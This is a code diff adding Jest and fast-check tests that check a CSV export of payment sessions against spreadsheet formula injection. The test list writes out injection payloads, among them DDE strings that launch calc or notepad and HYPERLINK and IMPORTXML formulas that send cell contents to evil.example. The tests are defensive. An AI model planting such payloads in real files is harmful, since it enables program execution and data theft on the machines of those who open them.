@@ -1,4 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
 import type { PaySession } from '../../../lambdas/shared/contract.ts';
 import { toCsv } from '../../../lambdas/shared/sessions-csv.ts';
 
@@ -27,7 +28,45 @@ describe('the CSV export', () => {
     expect(cellOf(given)).toBe(cell);
   });
 
+  it.each([
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1-1+cmd|'/C notepad'!A1",
+    "-2+3+cmd|'/C calc'!D2",
+    '=HYPERLINK("https://evil.example?x="&A1,"open")',
+    '=IMPORTXML(CONCAT("https://evil.example?v=",A2:E2),"//a")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    '\t=1+1',
+    '\n@SUM(A1)',
+    '"=1+1',
+    '"; =1+1',
+    '\uFF1D1+1',
+    "'=1+1",
+  ])('lets no program of the known ones start: %j', (attack) => {
+    expect(startsOf(cellOf(attack)).filter((start) => FORMULA.test(start))).toEqual([]);
+  });
+
+  it('lets no text start a formula in any cell of any spreadsheet', () => {
+    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n;,|"\' a1\0\uFF1D\uFF0B'), maxLength: 14 });
+    fc.assert(
+      fc.property(text, (description) => {
+        const cell = cellOf(description);
+        expect(cell.slice(1, -1).replaceAll('""', '')).not.toContain('"');
+        expect(startsOf(cell).filter((start) => FORMULA.test(start))).toEqual([]);
+      }),
+    );
+  });
+
   it('leaves other text as it is, with quotes doubled', () => {
     expect(cellOf('order 12-34; "blue" = yes')).toBe('"order 12-34; ""blue"" = yes"');
   });
 });
+
+/** What spreadsheets take for the beginning of a formula. */
+const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+/** The content of a cell as spreadsheets of every country would split it. */
+function startsOf(quoted: string): readonly string[] {
+  const content = quoted.slice(1, -1).replaceAll('""', '"');
+  return content.split(/[;|\t\r\n]/).map((part, at) => (at === 0 ? part : part));
+}
